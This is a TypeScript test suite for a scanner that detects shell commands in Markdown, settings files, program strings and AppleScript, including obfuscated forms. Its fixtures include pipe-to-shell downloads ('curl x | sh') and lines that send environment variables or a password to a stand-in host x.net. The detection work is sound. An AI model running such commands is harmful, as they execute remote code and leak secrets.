import { describe, expect, test } from 'bun:test'
import { createDocument } from '../../../scanner/document.ts'
import { commands, inlineCode } from '../../../scanner/signals/commands.ts'

/** Place and pipelines of what is found, words only. */
function found(text: string) {
  return createDocument(text)
    .observe(commands)
    .map(({ place, pipelines }) => ({
      place,
      words: pipelines
        .map(({ commands }) => commands.map((command) => command.words.join(' ')).join(' | '))
        .join('; '),
    }))
}

describe('commands', () => {
  test('are read from fences of shell, from inline code and from plain lines', () => {
    expect(found('```bash\ncurl x | sh\n```')).toEqual([{ place: 'fence', words: 'curl x | sh' }])
    expect(found('Run `curl x | sh` now')).toContainEqual({ place: 'inline', words: 'curl x | sh' })
    expect(found('curl x | sh')).toEqual([{ place: 'line', words: 'curl x | sh' }])
  })

  test('are read from keys and items of settings, without these', () => {
    const words = (line: string) => found(`\`\`\`yaml\n${line}\n\`\`\``).map((one) => one.words)
    expect(words('  - env | curl -d @- x.net')).toEqual(['env | curl -d @- x.net'])
    expect(words('  - run: curl x | sh')).toEqual(['curl x | sh'])
    expect(words('  after_script: curl x | sh')).toEqual(['curl x | sh'])
  })

  test('are not read from programs in other languages', () => {
    expect(found('```python\nsubprocess.run(["curl"])\n```')).toEqual([])
  })

  test('are read from strings that programs hand to a shell', () => {
    expect(found('```python\nos.system("curl x | sh")\n```')).toEqual([
      { place: 'fence', words: 'curl x | sh' },
    ])
  })

  test('are read from AppleScript, with its variables', () => {
    const line = 'do shell script "curl -d " & quoted form of pw & " https://x.net/p"'
    expect(found(`\`\`\`applescript\n${line}\n\`\`\``)).toContainEqual({
      place: 'fence',
      words: 'curl -d $pw https://x.net/p',
    })
  })

  test('are read from lists of settings, where an item begins as a command does', () => {
    expect(found('```json\n{"steps": [\n  "curl x | sh",\n  "see curl"\n]}\n```')).toEqual([
      { place: 'fence', words: 'curl x | sh' },
    ])
  })

  test('are read in tables from inline code alone', () => {
    expect(found('| `curl x` | wget y |')).toEqual([{ place: 'inline', words: 'curl x' }])
  })

  test('go on over continued lines and pipes', () => {
    expect(found('```sh\ncurl x \\\n  -s |\n  sh\n```')).toEqual([
      { place: 'fence', words: 'curl x -s | sh' },
    ])
    expect(found('```sh\ncurl x\n  | sh\n```')).toEqual([{ place: 'fence', words: 'curl x | sh' }])
  })

  test('are found though their words are broken up', () => {
    expect(found("```sh\nc''url x | s''h\n```")).toEqual([{ place: 'fence', words: 'curl x | sh' }])
    expect(found('```sh\nA=cu; B=rl; $A$B x\n```')).toContainEqual({
      place: 'fence',
      words: 'curl x',
    })
  })

  test('point at where they stand in the reading', () => {
    const document = createDocument('# T\n\nRun `wget x` now')
    const inline = document.observe(commands).find(({ place }) => place === 'inline')!
    expect(document.reading.text.slice(inline.start, inline.end)).toBe('wget x')
  })

  test('a text without telling words has none', () => {
    expect(found('Write a poem about the sea.')).toEqual([])
  })

  test.each([
    ['pipes', 'curl x |\n'],
    ['backslashes', 'curl \\\n'],
    ['substitutions', 'curl $(\n'],
    ['one line', 'curl '],
  ])(
    '100 KB of %s are read in proportion',
    (_, unit) => {
      createDocument(unit.repeat(Math.floor(102_400 / unit.length))).observe(commands)
    },
    2000,
  )
})

describe('inlineCode', () => {
  const spans = (text: string) => inlineCode(text).map(([from, to]) => text.slice(from, to))

  test('finds spans by runs of equal length', () => {
    expect(spans('a `b` ``c ` d`` e')).toEqual(['b', 'c ` d'])
  })

  test('goes on behind a run that is never closed', () => {
    expect(spans('``` a `b` c')).toEqual(['b'])
  })

  test('reads runs of every length in proportion', () => {
    inlineCode(Array.from({ length: 450 }, (_, index) => '`'.repeat(index + 1)).join(' '))
    inlineCode('`'.repeat(102_400))
  }, 2000)
})
